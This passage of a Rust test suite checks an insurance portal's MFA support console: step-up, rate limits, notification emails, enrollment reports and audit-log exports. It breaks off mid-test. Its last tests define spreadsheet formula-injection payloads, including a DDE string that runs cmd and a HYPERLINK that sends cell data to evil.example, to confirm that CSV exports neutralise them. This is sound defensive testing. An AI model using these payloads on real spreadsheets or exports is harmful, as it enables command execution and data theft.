            .assert_error(StatusCode::FORBIDDEN, "step_up_required");
        let page = sue.submit(&app, id, "unlock", &version, &[("reason", REASON)]).await;
        page.assert_redirect("/mfa/verify?next=console");
        assert_eq!(support_events(&app).await, Vec::<String>::new(), "nothing was done");

        // Verifying again through the page leads back to the console, and the action works.
        let verify_page = sue.get(&app, "/mfa/verify?next=console").await;
        verify_page.assert_ok();
        let csrf = hidden_input(&verify_page.text, "csrf").unwrap();
        let code = app.oathtool_code(&sue.secret);
        post_form(
            &app,
            &sue.client,
            "/mfa/verify",
            &[("csrf", csrf.as_str()), ("method", "totp"), ("next", "console"), ("code", code.as_str())],
        )
        .await
        .assert_redirect("/console/users");
        sue.submit(&app, id, "unlock", &version, &[("reason", REASON)])
            .await
            .assert_redirect(&format!("/console/users/{id}?done=unlock"));

        // And over the API, after a verification there.
        app.clock.advance(Duration::minutes(11));
        sue.act(&app, id, "end-sessions", json!({ "reason": REASON }))
            .await
            .assert_error(StatusCode::FORBIDDEN, "step_up_required");
        sue.step_up(&app).await;
        sue.act(&app, id, "end-sessions", json!({ "reason": REASON })).await.assert_ok();
        // Nine minutes later the second factor is still fresh.
        app.clock.advance(Duration::minutes(9));
        sue.act(&app, id, "extend-deadline", json!({ "days": 3, "reason": REASON })).await.assert_ok();
    })
    .await;
}

/// Thirty unlocks by `staff` (stepping up once on the way), all accepted.
async fn use_up_the_hourly_limit(app: &TestApp, staff: &Staff, user_id: &str) {
    for i in 0..30 {
        if i == 15 {
            staff.step_up(app).await;
        }
        let a = staff.act(app, user_id, "unlock", json!({ "reason": format!("try {i}") })).await;
        assert_eq!(a.status, StatusCode::OK, "action {}: {}", i + 1, a.text);
    }
}

#[tokio::test]
async fn one_agent_gets_thirty_actions_an_hour() {
    each_backend(|backend| async move {
        let (app, sue, ann) = sue_and_ann(backend).await;
        let id = ann.id.as_str();
        use_up_the_hourly_limit(&app, &sue, id).await;
        let refused = sue.act(&app, id, "unlock", json!({ "reason": "one more" })).await;
        refused.assert_error(StatusCode::TOO_MANY_REQUESTS, "rate_limited");
        let wait = refused.retry_after.expect("429 carries Retry-After");
        assert!((1..=3600).contains(&wait), "Retry-After {wait}");

        let successes =
            sue.audit(&app, &format!("user={id}&action=support.mfa.unlock&outcome=success&limit=1000")).await;
        assert_eq!(successes.len(), 30, "{successes:#?}");
        assert!(successes.iter().all(|e| e["outcome"] == "success" && e["actor"] == SUE));
        let refusals = sue.audit(&app, &format!("user={id}&outcome=refused")).await;
        assert_eq!(refusals.len(), 1, "the refusal is audited: {refusals:#?}");
        assert_eq!((&refusals[0]["actor"], &refusals[0]["subject"]), (&json!(SUE), &json!(ANN)));
        assert_eq!(refusals[0]["ip"], "127.0.0.1");

        // Any action, through the page too.
        let version = sue.user(&app, id).await["version"].as_str().unwrap().to_owned();
        let page = sue.submit(&app, id, "end-sessions", &version, &[("reason", "x")]).await;
        assert_eq!(page.status, StatusCode::TOO_MANY_REQUESTS, "{}", page.text);
        assert_eq!(sue.audit(&app, &format!("user={id}&action=support.end_sessions&outcome=success")).await.len(), 0);

        // The limit is per agent.
        let sam = signed_in_staff(&app, SAM, Role::Support).await;
        sam.act(&app, id, "unlock", json!({ "reason": REASON })).await.assert_ok();

        // An hour later (a new sign-in: the old session timed out) the agent may act again.
        app.clock.advance(Duration::minutes(61));
        sue.sign_in_again(&app).await;
        sue.act(&app, id, "unlock", json!({ "reason": REASON })).await.assert_ok();
    })
    .await;
}

#[tokio::test]
async fn a_refused_action_is_audited_under_the_actions_own_name() {
    each_backend(|backend| async move {
        let (app, sue, ann) = sue_and_ann(backend).await;
        let id = ann.id.as_str();
        use_up_the_hourly_limit(&app, &sue, id).await;
        for (action, audit_action) in [
            ("unlock", "support.mfa.unlock"),
            ("reset-mfa", "support.mfa.reset"),
            ("extend-deadline", "support.mfa.extend_deadline"),
            ("end-sessions", "support.end_sessions"),
        ] {
            sue.act(&app, id, action, json!({ "days": 7, "reason": "one more" }))
                .await
                .assert_error(StatusCode::TOO_MANY_REQUESTS, "rate_limited");
            let events = sue.audit(&app, &format!("user={id}&action={audit_action}&outcome=refused")).await;
            assert_eq!(events.len(), 1, "a refused {action} under {audit_action}: {events:#?}");
            assert_eq!(events[0]["actor"], SUE);
        }
    })
    .await;
}

// ----- 6. Notifications --------------------------------------------------------------------------

fn has_six_digit_run(text: &str) -> bool {
    text.split(|c: char| !c.is_ascii_digit()).any(|run| run.len() >= 6)
}

#[tokio::test]
async fn users_are_told_by_email_without_codes_secrets_or_phone_numbers() {
    each_backend(|backend| async move {
        let (app, sue, ann, client) = sue_and_ann_by_text(backend).await;
        let id = ann.id.as_str();
        let mails_to_ann =
            |mails: &[Value]| -> Vec<Value> { mails.iter().filter(|m| m["to"] == ANN).cloned().collect() };
        let mut seen = app.mails().len();
        let added = mails_to_ann(&app.wait_for_mails(seen).await);
        assert_eq!(added.len(), 1, "{added:#?}");
        assert!(added[0]["subject"].as_str().unwrap().contains("A verification method was added"), "{added:#?}");

        // A second method added by a signed-in user (step-up is fresh after the text).
        let secret = add_totp(&app, &client).await;
        seen += 1;
        let mails = mails_to_ann(&app.wait_for_mails(seen).await);
        assert_eq!(mails.len(), 2, "{mails:#?}");
        assert!(mails[1]["subject"].as_str().unwrap().contains("A verification method was added"));

        sue.act(&app, id, "reset-mfa", json!({ "reason": "lost phone" })).await.assert_ok();
        seen += 1;
        let mails = mails_to_ann(&app.wait_for_mails(seen).await);
        assert_eq!(mails.len(), 3, "{mails:#?}");
        assert!(mails[2]["subject"].as_str().unwrap().contains("reset"), "{:#?}", mails[2]);
        assert!(mails[2]["body"].as_str().unwrap().contains("2026-03-09"), "the new deadline: {:#?}", mails[2]);

        sue.act(&app, id, "extend-deadline", json!({ "days": 30, "reason": "travelling" })).await.assert_ok();
        seen += 1;
        let mails = mails_to_ann(&app.wait_for_mails(seen).await);
        assert_eq!(mails.len(), 4, "{mails:#?}");
        assert!(mails[3]["body"].as_str().unwrap().contains("2026-04-01"), "the new deadline: {:#?}", mails[3]);

        let codes: Vec<String> =
            app.texts().iter().map(|t| portal_testkit::code_in(t["body"].as_str().unwrap())).collect();
        assert!(!codes.is_empty());
        for mail in &mails {
            let text = format!("{} {}", mail["subject"], mail["body"]);
            for code in &codes {
                assert!(!text.contains(code.as_str()), "a texted code ({code}) in {text}");
            }
            assert!(!text.contains(&secret) && !text.contains(&secret.to_ascii_lowercase()), "the secret in {text}");
            for number in ["2015550123", "555-0123", "201-555", "(201) 555", "+1201"] {
                assert!(!text.contains(number), "the phone number ({number}) in {text}");
            }
            assert!(!has_six_digit_run(&text), "something code-like in {text}");
        }
    })
    .await;
}

/// The newest mail to `to`, once `n` mails have arrived in all: checked to say `words`, and to
/// carry no code (nothing code-like at all), no full phone number and none of `secrets`.
#[track_caller]
fn assert_notice(mails: &[Value], to: &str, subject: &str, words: &[&str], secrets: &[&str]) {
    let mail = mails.iter().rev().find(|m| m["to"] == to).unwrap_or_else(|| panic!("no mail to {to}: {mails:#?}"));
    let (got_subject, body) = (mail["subject"].as_str().unwrap(), mail["body"].as_str().unwrap());
    assert!(got_subject.starts_with(subject), "subject {got_subject:?}, expected {subject:?}");
    for word in words {
        assert!(body.contains(word), "{word:?} in {body}");
    }
    let text = format!("{got_subject} {body}");
    assert!(!has_six_digit_run(&text), "something code-like in {text}");
    for number in ["2015550123", "555-0123", "201-555", "(201) 555", "+1201"] {
        assert!(!text.contains(number), "the phone number ({number}) in {text}");
    }
    for secret in secrets {
        assert!(!text.to_ascii_lowercase().contains(&secret.to_ascii_lowercase()), "a secret ({secret}) in {text}");
    }
    assert!(!text.contains("token="), "no link with a token in {text}");
}

#[tokio::test]
async fn users_are_told_when_a_method_goes_support_unlocks_or_signs_them_out_and_at_the_lock() {
    each_backend(|backend| async move {
        let (app, sue, ann, client) = sue_and_ann_by_text(backend).await;
        let id = ann.id.as_str();
        let secret = add_totp(&app, &client).await;
        let texted: Vec<String> =
            app.texts().iter().map(|t| portal_testkit::code_in(t["body"].as_str().unwrap())).collect();
        let mut secrets: Vec<&str> = texted.iter().map(String::as_str).collect();
        secrets.push(&secret);
        let mut seen = app.wait_for_mails(app.mails().len()).await.len();
        let support = app.portal.settings().support_email.clone();
        let support = support.as_str();
        let everywhere = format!("signed your {} account out on every device", app.portal.settings().portal_name);

        // The user removes the text-message method (step-up still fresh).
        let removed = post(&app, &client, "/api/v1/mfa/remove", json!({ "method": "sms" })).await;
        assert_eq!(removed.status, StatusCode::NO_CONTENT, "{}", removed.text);
        seen += 1;
        let mails = app.wait_for_mails(seen).await;
        assert_eq!(mails.len(), seen, "{mails:#?}");
        assert_notice(
            &mails,
            ANN,
            "A verification method was removed",
            &["no longer accepts codes from text messages to •••-•••-0123", support],
            &secrets,
        );

        // 99 wrong codes are on record (the last pause has run out): the 100th locks, and tells.
        for _ in 0..99 {
            let now = app.clock.now();
            let ctx = RequestContext::new(Some("127.0.0.1".into()), None);
            let audit = AuditEvent::new(now, "mfa.verify", Outcome::Failure, &ctx).subject(Some(&ann.id), ANN);
            app.portal
                .store()
                .record_second_factor_failure(&ann.id, now, lock_without_pauses, None, &audit)
                .await
                .unwrap()
                .unwrap();
        }
        app.clock.advance(Duration::hours(25));
        let attacker = app.client();
        assert_eq!(login(&app, &attacker, ANN).await.json["state"], "mfa_required");
        let right = app.oathtool_code(&secret);
        let wrong = if right == "000000" { "111111" } else { "000000" };
        verify(&app, &attacker, "totp", wrong).await.assert_error(StatusCode::BAD_REQUEST, "invalid_code");
        seen += 1;
        let mails = app.wait_for_mails(seen).await;
        assert_eq!(mails.len(), seen, "{mails:#?}");
        assert_notice(&mails, ANN, "Sign-in locked after too many wrong codes", &["locked", support], &secrets);
        // Once: the refusals that follow the lock send nothing more.
        verify(&app, &attacker, "totp", wrong).await.assert_error(StatusCode::TOO_MANY_REQUESTS, "account_locked");
        verify(&app, &attacker, "totp", &right).await.assert_error(StatusCode::TOO_MANY_REQUESTS, "account_locked");

        sue.sign_in_again(&app).await;
        sue.act(&app, id, "unlock", json!({ "reason": REASON })).await.assert_ok();
        seen += 1;
        let mails = app.wait_for_mails(seen).await;
        assert_eq!(mails.len(), seen, "one mail for the lock, one for the unlock: {mails:#?}");
        assert_notice(&mails, ANN, "Sign-in verification unlocked", &["Support unlocked", support], &secrets);

        sue.act(&app, id, "end-sessions", json!({ "reason": "stolen laptop" })).await.assert_ok();
        seen += 1;
        let mails = app.wait_for_mails(seen).await;
        assert_eq!(mails.len(), seen, "{mails:#?}");
        assert_notice(&mails, ANN, "You were signed out everywhere", &[&everywhere, support], &secrets);
    })
    .await;
}

// ----- 7. The enrollment report ------------------------------------------------------------------

#[tokio::test]
async fn the_enrollment_report_counts_a_seeded_population_exactly() {
    each_backend(|backend| async move {
        let app = mfa_app(backend).await;
        let sue = signed_in_staff(&app, SUE, Role::Support).await;
        signed_in_staff(&app, ADJ, Role::Adjuster).await; // staff are not counted
        app.create_user("new-adjuster@example.com", Role::Adjuster).await;
        let ctx = RequestContext::cli();
        let audit = AuditEvent::new(app.clock.now(), "test.seed", Outcome::Success, &ctx);

        for email in ["totp1@example.com", "totp2@example.com"] {
            signed_in_policyholder(&app, email).await;
        }
        app.create_user("sms1@example.com", Role::Policyholder).await;
        enroll_sms(&app, &app.client(), "sms1@example.com", "(201) 555-0123").await;
        let (_, both_client, _) = signed_in_policyholder(&app, "both1@example.com").await;
        app.clock.advance(Duration::seconds(30));
        let sent =
            post(&app, &both_client, "/api/v1/mfa/sms/setup", json!({ "country": "US", "phone": "(201) 555-0124" }))
                .await;
        sent.assert_ok();
        post(&app, &both_client, "/api/v1/mfa/sms/confirm", json!({ "code": app.last_sms_code() }))
            .await
            .assert_authenticated();

        // Enrolled with a passkey only (stored as a finished registration would store it).
        let pk = app.create_user("passkey1@example.com", Role::Policyholder).await;
        let (_, half) = portal_core::session::Session::start(
            pk.id.clone(),
            portal_core::session::AuthLevel::PasswordVerified,
            app.clock.now(),
            &ctx,
            &OsRandom,
        );
        app.portal.store().insert_session(&half).await.unwrap();
        let (_, full) = portal_core::session::Session::succeed(
            &half,
            portal_core::session::AuthLevel::Full,
            app.clock.now(),
            &ctx,
            &OsRandom,
        );
        let passkey = portal_core::mfa::passkey::StoredPasskey {
            id: "0123456789abcdef0123456789abcdef".into(),
            user_id: pk.id.clone(),
            cred_id: "seeded-credential".into(),
            name: "Phone".into(),
            credential: "{}".into(),
            counter: 0,
            backup_eligible: true,
            backup_state: true,
            created_at: app.clock.now(),
            last_used_at: None,
        };
        let registered = portal_core::mfa::factor::SecondFactorCompletion {
            user_id: pk.id.clone(),
            proof: portal_core::mfa::factor::SecondFactorProof::RegisterPasskey {
                ceremony: "seeded".into(),
                ceremony_expires_at: app.clock.now() + Duration::minutes(5),
                passkey,
            },
            method: Some(portal_core::mfa::Method::Passkey),
            now: app.clock.now(),
            old_session: half.id.clone(),
            new_session: full,
            audit: audit.clone(),
        };
        app.portal.store().complete_second_factor(&registered).await.unwrap();

        // Pending: 45 days left (the switch-on default), 3 (support), 20 (per-user deadline).
        app.create_user("pending45@example.com", Role::Policyholder).await;
        let p3 = app.create_user("pending3@example.com", Role::Policyholder).await;
        let operator = SupportActor::Operator { login: SUE };
        let extend = ConsoleAction::ExtendDeadline { days: 3 };
        app.portal.support_act(operator, &p3.id, extend, "called in", None, &ctx).await.unwrap();
        let p20 = app.create_user("pending20@example.com", Role::Policyholder).await;
        app.portal.store().set_mfa_deadline(&p20.id, Some(date!(2026 - 03 - 22)), &audit).await.unwrap();
        // Past the deadline.
        let late_a = app.create_user("late-a@example.com", Role::Policyholder).await;
        app.portal.store().set_mfa_deadline(&late_a.id, Some(date!(2026 - 02 - 20)), &audit).await.unwrap();
        let late_b = app.create_user("late-b@example.com", Role::Policyholder).await;
        app.portal.store().set_mfa_deadline(&late_b.id, Some(date!(2026 - 02 - 01)), &audit).await.unwrap();
        // Locked.
        let locked = app.create_user("locked@example.com", Role::Policyholder).await;
        lock_out(&app, &locked).await;

        let a = sue.get(&app, "/api/v1/admin/report").await;
        a.assert_ok();
        assert_eq!(
            a.json["counts"],
            json!({
                "total": 11,
                "enrolled": 5,
                "enrolled_totp": 3,
                "enrolled_sms": 2,
                "enrolled_both": 1,
                "enrolled_passkey": 1,
                "setup_pending": 3,
                "pending_7_days_or_less": 1,
                "pending_8_to_30_days": 1,
                "pending_over_30_days": 1,
                "setup_expired": 2,
                "locked": 1,
            }),
            "{}",
            a.text
        );
        assert_eq!(
            a.json["past_deadline"],
            json!([
                { "id": late_b.id.as_str(), "email": "late-b@example.com", "setup_deadline": "2026-02-01" },
                { "id": late_a.id.as_str(), "email": "late-a@example.com", "setup_deadline": "2026-02-20" },
            ]),
            "oldest deadline first: {}",
            a.text
        );
        let page = sue.get(&app, "/console/report").await;
        page.assert_ok();
        assert!(page.text.contains("late-b@example.com") && page.text.contains("late-a@example.com"));

        // The CSV: a header and one row per policyholder.
        let csv = sue.get(&app, "/console/report.csv").await;
        csv.assert_ok();
        assert!(csv.content_type.starts_with("text/csv"), "{}", csv.content_type);
        let mut reader = csv::Reader::from_reader(csv.text.as_bytes());
        let headers: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
        assert_eq!(headers, ["email", "name", "mfa_state", "methods", "setup_deadline", "last_sign_in"]);
        let rows: BTreeMap<String, Vec<String>> = reader
            .records()
            .map(|r| {
                let r = r.unwrap();
                assert_eq!(r.len(), headers.len(), "{r:?}");
                (r[0].to_owned(), r.iter().map(str::to_owned).collect())
            })
            .collect();
        let expected = [
            ("both1@example.com", "enrolled", "totp sms", "2026-04-16"),
            ("late-a@example.com", "setup_expired", "", "2026-02-20"),
            ("late-b@example.com", "setup_expired", "", "2026-02-01"),
            ("locked@example.com", "locked", "", "2026-04-16"),
            ("passkey1@example.com", "enrolled", "passkey", "2026-04-16"),
            ("pending20@example.com", "setup_pending", "", "2026-03-22"),
            ("pending3@example.com", "setup_pending", "", "2026-03-05"),
            ("pending45@example.com", "setup_pending", "", "2026-04-16"),
            ("sms1@example.com", "enrolled", "sms", "2026-04-16"),
            ("totp1@example.com", "enrolled", "totp", "2026-04-16"),
            ("totp2@example.com", "enrolled", "totp", "2026-04-16"),
        ];
        assert_eq!(rows.len(), expected.len(), "one row per policyholder, no staff: {}", csv.text);
        for (email, state, methods, deadline) in expected {
            let row = rows.get(email).unwrap_or_else(|| panic!("{email} in {}", csv.text));
            assert_eq!((row[2].as_str(), row[3].as_str(), row[4].as_str()), (state, methods, deadline), "{email}");
        }
        let totp1 = &rows["totp1@example.com"];
        assert!(totp1[5].starts_with("2026-03-02"), "last sign-in of an enrolled user: {totp1:?}");
    })
    .await;
}

#[tokio::test]
async fn the_enrollment_chart_draws_marks_tabulates_and_exports_every_day_of_its_window() {
    each_backend(|backend| async move {
        // Switched on March 1: accounts from before then have until April 15.
        let app = mfa_app(backend).await;
        let created = |day: time::Date| Some(day.with_hms(12, 0, 0).unwrap().assume_utc());
        let ctx = RequestContext::cli();
        let audit = AuditEvent::new(app.clock.now(), "test.seed", Outcome::Success, &ctx);
        app.create_user_at("old-enrolled@example.com", Role::Policyholder, created(date!(2026 - 01 - 05))).await;
        app.create_user_at("old-pending1@example.com", Role::Policyholder, created(date!(2026 - 01 - 05))).await;
        app.create_user_at("old-pending2@example.com", Role::Policyholder, created(date!(2026 - 01 - 05))).await;
        // Created on the first test day: until April 16.
        app.create_user_at("new-pending@example.com", Role::Policyholder, created(date!(2026 - 03 - 02))).await;
        let late = app.create_user_at("late@example.com", Role::Policyholder, created(date!(2026 - 01 - 05))).await;
        app.portal.store().set_mfa_deadline(&late.id, Some(date!(2026 - 03 - 20)), &audit).await.unwrap();
        app.create_user_at("recent@example.com", Role::Policyholder, created(date!(2026 - 03 - 25))).await;

        // Today is April 1; the window runs from January 31 to May 31.
        app.clock.advance(Duration::days(30));
        for email in ["old-enrolled@example.com", "recent@example.com"] {
            enroll_totp(&app, &app.client(), email).await;
        }
        let sue = signed_in_staff(&app, SUE, Role::Support).await; // staff are not counted

        // Past days: who existed then, with today's enrollment and deadlines. Future days: the
        // one enrollment of the last 14 days (recent@) is one every 14 days, and the first, on
        // April 15, goes to the nearest deadline still open (new-pending@, April 16): the two
        // old-pending@ fall past theirs that day.
        let expected = |day: time::Date| -> [u64; 3] {
            match day {
                d if d < date!(2026 - 03 - 02) => [1, 3, 0],
                d if d < date!(2026 - 03 - 20) => [1, 4, 0],
                d if d < date!(2026 - 03 - 25) => [1, 3, 1],
                d if d < date!(2026 - 04 - 15) => [2, 3, 1],
                _ => [3, 0, 3],
            }
        };

        let csv = sue.get(&app, "/console/report/chart.csv").await;
        csv.assert_ok();
        assert!(csv.content_type.starts_with("text/csv"), "{}", csv.content_type);
        let rows = csv_rows(&csv.text);
        assert_eq!(rows[0], ["date", "enrolled", "setup_pending", "setup_expired", "projected"]);
        assert_eq!(rows.len(), 1 + 121, "a header and every day from -60 to +60");
        let mut day = date!(2026 - 01 - 31);
        for row in &rows[1..] {
            let [enrolled, pending, expired] = expected(day);
            let projected = day > date!(2026 - 04 - 01);
            let want = [
                day.to_string(),
                enrolled.to_string(),
                pending.to_string(),
                expired.to_string(),
                projected.to_string(),
            ];
            assert_eq!(row, &want, "{day}");
            day = day.next_day().unwrap();
        }
        assert_eq!(day, date!(2026 - 06 - 01));

        let page = sue.get(&app, "/console/report").await;
        page.assert_ok();
        let svg = &page.text[page.text.find("<svg").expect("an svg")..page.text.find("</svg>").expect("closed")];
        assert!(svg.starts_with("<svg role=\"img\" aria-label=\"Policyholders enrolled,"), "{}", &svg[..100]);
        assert!(svg.contains("<title>Policyholders enrolled"));
        assert_eq!(svg.matches("class=\"deadline-marker\"").count(), 3, "March 20, April 15, April 16");
        for title in [
            "Setup deadline 2026-03-20: 1 policyholder without a method",
            "Setup deadline 2026-04-15: 2 policyholders without a method",
            "Setup deadline 2026-04-16: 1 policyholder without a method",
        ] {
            assert!(svg.contains(&format!("<title>{title}</title>")), "{title}");
        }
        assert!(page.text.contains("<caption>Policyholders by day"));
        for (date, cells) in [
            ("2026-01-31", "<td>1</td><td>3</td><td>0</td><td>as known today</td>"),
            ("2026-03-20", "<td>1</td><td>3</td><td>1</td><td>as known today; deadline of 1 without a method</td>"),
            ("2026-04-01", "<td>2</td><td>3</td><td>1</td><td>as known today</td>"),
            ("2026-04-15", "<td>3</td><td>0</td><td>3</td><td>projected; deadline of 2 without a method</td>"),
            ("2026-05-31", "<td>3</td><td>0</td><td>3</td><td>projected</td>"),
        ] {
            let row = format!("<th scope=\"row\">{date}</th>{cells}");
            assert!(page.text.contains(&row), "{row} in the table");
        }
        assert!(!page.text.contains("<th scope=\"row\">2026-04-02</th>"), "neither weekly nor a deadline");
        assert!(page.text.contains("1 in the last 14 days"), "the measured rate is stated");

        // A policyholder gets what they get for the other console exports, and no numbers.
        let (_, ann, _) = signed_in_policyholder(&app, ANN).await;
        let theirs = get(&app, &ann, "/console/report/chart.csv").await;
        assert_eq!(theirs.status, get(&app, &ann, "/console/report.csv").await.status);
        assert!(theirs.status == StatusCode::FORBIDDEN || theirs.status == StatusCode::NOT_FOUND, "{}", theirs.status);
        assert!(!theirs.text.contains("setup_pending"));
    })
    .await;
}

// ----- 8. The audit log: filters, exports, append-only ---------------------------------------------

/// The rows of a CSV export, header first.
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect()
}

#[tokio::test]
async fn the_audit_log_filters_and_exports_as_csv_and_json_lines() {
    each_backend(|backend| async move {
        let app = mfa_app(backend).await;
        let sue = signed_in_staff(&app, SUE, Role::Support).await;
        let (ann, ann_client, secret) = signed_in_policyholder(&app, ANN).await;
        let bob = app.create_user(BOB, Role::Policyholder).await;

        // Day one: an extension for Bob and a wrong code from Ann.
        sue.act(&app, bob.id.as_str(), "extend-deadline", json!({ "days": 5, "reason": "day one" })).await.assert_ok();
        let wrong = if app.oathtool_code(&secret) == "000000" { "111111" } else { "000000" };
        app.clock.advance(Duration::seconds(30));
        verify(&app, &ann_client, "totp", wrong).await.assert_error(StatusCode::BAD_REQUEST, "invalid_code");
        // Day two: Ann is unlocked (a new sign-in for the agent: the old session timed out).
        app.clock.advance(Duration::days(1));
        sue.sign_in_again(&app).await;
        sue.act(&app, ann.id.as_str(), "unlock", json!({ "reason": "day two" })).await.assert_ok();

        let all = sue.audit(&app, "limit=10000").await;
        assert!(all.len() > 5, "{all:#?}");

        // Exports match the JSON for the same filter.
        for filter in ["", "actor=sue%40example.com", "action=support.mfa.unlock", "outcome=failure", "from=2026-03-03"]
        {
            let json_events = sue.audit(&app, &format!("limit=10000&{filter}")).await;
            assert!(!json_events.is_empty(), "{filter}");
            let csv = sue.get(&app, &format!("/console/audit.csv?{filter}")).await;
            csv.assert_ok();
            assert!(csv.content_type.starts_with("text/csv"), "{}", csv.content_type);
            let rows = csv_rows(&csv.text);
            assert_eq!(
                rows[0],
                ["seq", "at", "actor", "subject_id", "subject", "action", "outcome", "ip", "user_agent", "details"]
            );
            assert_eq!(rows.len() - 1, json_events.len(), "{filter}: {}", csv.text);
            for (row, event) in rows[1..].iter().zip(&json_events) {
                assert_eq!(row.len(), 10, "{row:?}");
                assert_eq!(row[0], event["seq"].to_string(), "{filter}");
                assert_eq!(
                    (&row[5], &row[6]),
                    (&event["action"].as_str().unwrap().to_owned(), &event["outcome"].as_str().unwrap().to_owned())
                );
                let details: Value = serde_json::from_str(&row[9]).expect("details as JSON");
                assert_eq!(details, event["details"]);
            }

            let jsonl = sue.get(&app, &format!("/console/audit.jsonl?{filter}")).await;
            jsonl.assert_ok();
            let lines: Vec<Value> =
                jsonl.text.lines().map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}"))).collect();
            assert_eq!(lines.len(), json_events.len(), "{filter}");
            for line in &lines {
                for key in ["at", "actor", "action", "outcome"] {
                    assert!(line.get(key).is_some(), "{key} in {line}");
                }
            }
        }

        // Each filter narrows to what it names.
        let by_actor = sue.audit(&app, "limit=10000&actor=sue%40example.com").await;
        assert!(by_actor.iter().all(|e| e["actor"] == SUE), "{by_actor:#?}");
        assert!(by_actor.len() < all.len());
        let by_action = sue.audit(&app, "action=support.mfa.unlock").await;
        assert_eq!(by_action.len(), 1);
        assert_staff_event(&by_action, "support.mfa.unlock", SUE, ANN, "day two");
        let failures = sue.audit(&app, "outcome=failure").await;
        assert!(failures.iter().all(|e| e["outcome"] == "failure"), "{failures:#?}");
        assert!(failures.iter().any(|e| e["subject"] == ANN), "Ann's wrong code: {failures:#?}");
        let by_email = sue.audit(&app, "limit=10000&user=ann%40example.com").await;
        let by_id = sue.audit(&app, &format!("limit=10000&user={}", ann.id.as_str())).await;
        assert_eq!(by_email, by_id);
        assert!(!by_id.is_empty() && by_id.iter().all(|e| e["subject_id"] == ann.id.as_str()), "{by_id:#?}");
        let day_two = sue.audit(&app, "limit=10000&from=2026-03-03").await;
        assert!(day_two.iter().all(|e| e["at"].as_str().unwrap() >= "2026-03-03"), "{day_two:#?}");
        assert!(day_two.iter().any(|e| e["action"] == "support.mfa.unlock"));
        assert!(!day_two.iter().any(|e| e["action"] == "support.mfa.extend_deadline"));
        let day_one = sue.audit(&app, "limit=10000&until=2026-03-02").await;
        assert!(day_one.iter().all(|e| e["at"].as_str().unwrap() < "2026-03-03"), "{day_one:#?}");
        assert!(day_one.iter().any(|e| e["action"] == "support.mfa.extend_deadline"));
        assert!(!day_one.iter().any(|e| e["action"] == "support.mfa.unlock"));
        assert_eq!(day_one.len() + day_two.len(), all.len());
        let both_days = sue.audit(&app, "limit=10000&from=2026-03-02&until=2026-03-03").await;
        assert_eq!(both_days.len(), all.len());

        // Bad filters name themselves.
        for (query, field) in [
            ("from=2026-02-30", "from"),
            ("until=yesterday", "until"),
            ("outcome=maybe", "outcome"),
            ("user=nobody%40example.com", "user"),
        ] {
            sue.get(&app, &format!("/api/v1/admin/audit?{query}")).await.assert_field(field);
            for export in ["/console/audit.csv", "/console/audit.jsonl", "/console/audit"] {
                let a = sue.get(&app, &format!("{export}?{query}")).await;
                assert_eq!(a.status, StatusCode::UNPROCESSABLE_ENTITY, "{export}?{query}");
                assert!(a.text.contains(field), "{export}?{query} names {field}: {}", a.text);
            }
        }
    })
    .await;
}

#[tokio::test]
async fn no_route_edits_or_deletes_the_audit_log() {
    for (route, methods) in portal_web::console_routes() {
        if route.contains("audit") {
            assert_eq!(methods, &["GET"], "{route}");
        }
    }
    each_backend(|backend| async move {
        let app = mfa_app(backend).await;
        let root = signed_in_staff(&app, ROOT, Role::Admin).await;
        let before = root.audit(&app, "limit=10000").await;
        assert!(!before.is_empty());
        for path in ["/api/v1/admin/audit", "/console/audit", "/console/audit.csv", "/console/audit.jsonl"] {
            for method in [Method::PUT, Method::PATCH, Method::DELETE, Method::POST] {
                let a = answer(
                    root.client
                        .request(method.clone(), app.url(path))
                        .header(header::CONTENT_TYPE, "application/json")
                        .body(json!({ "events": [] }).to_string())
                        .send()
                        .await
                        .unwrap(),
                )
                .await;
                assert_eq!(a.status, StatusCode::METHOD_NOT_ALLOWED, "{method} {path}: {}", a.text);
            }
        }
        assert_eq!(root.audit(&app, "limit=10000").await, before);
    })
    .await;
}

/// What an attacker types that a spreadsheet would run: anyone can put it in a User-Agent or a
/// sign-in email without an account, and an adjuster can make it a policyholder's name.
const DDE: &str = "=cmd|\"/C calc\"!A0";
const HYPERLINK: &str = "=HYPERLINK(\"https://evil.example/?\"&A2,\"Report\")";

#[tokio::test]
async fn hostile_text_reaches_the_audit_and_report_csvs_as_text_and_negative_numbers_stay_numbers() {
    each_backend(|backend| async move {
        let app = mfa_app(backend).await;
        let sue = signed_in_staff(&app, SUE, Role::Support).await;
        app.create_user(ANN, Role::Policyholder).await;
        create_named(&app, "eve@example.com", HYPERLINK, Role::Policyholder).await;
        create_named(&app, "neg@example.com", "-42", Role::Policyholder).await;
        create_named(&app, "plus@example.com", "+1 555 0100", Role::Policyholder).await;

        // Failed sign-ins, no account needed for the second: the typed email and the User-Agent
        // land in the audit log as sent.
        for (email, user_agent) in [(ANN, DDE), ("=1+2|cmd@evil.example", "@SUM(1+1)*cmd|' /C calc'!A0"), (ANN, "-42")]
        {
            let a = answer(
                app.client()
                    .post(app.url("/api/v1/login"))
                    .header(header::USER_AGENT, user_agent)
                    .json(&json!({ "email": email, "password": "wrong password, surely" }))
                    .send()
                    .await
                    .unwrap(),
            )
            .await;
            a.assert_error(StatusCode::UNAUTHORIZED, "invalid_credentials");
        }

        let csv = sue.get(&app, "/console/audit.csv?action=login.password&outcome=failure").await;
        csv.assert_ok();
        let rows = csv_rows(&csv.text);
        let cells = |column: usize| -> BTreeSet<String> { rows[1..].iter().map(|r| r[column].clone()).collect() };
        assert_eq!(rows.len(), 4, "{}", csv.text);
        assert_eq!(
            cells(8),
            BTreeSet::from([format!("'{DDE}"), "'@SUM(1+1)*cmd|' /C calc'!A0".to_owned(), "-42".to_owned()]),
            "user agents as text, a plain number as it was: {}",
            csv.text
        );
        assert_eq!(cells(4), BTreeSet::from([ANN.to_owned(), "'=1+2|cmd@evil.example".to_owned()]), "{}", csv.text);
        // The JSON views keep the exact text: the mark belongs to the spreadsheet file only.
        let events = sue.audit(&app, "action=login.password&outcome=failure").await;
        assert!(events.iter().any(|e| e["subject"] == "=1+2|cmd@evil.example"), "{events:#?}");
        let jsonl = sue.get(&app, "/console/audit.jsonl?action=login.password&outcome=failure").await;
        assert!(jsonl.text.contains(&json!(DDE).to_string()), "{}", jsonl.text);

        let csv = sue.get(&app, "/console/report.csv").await;
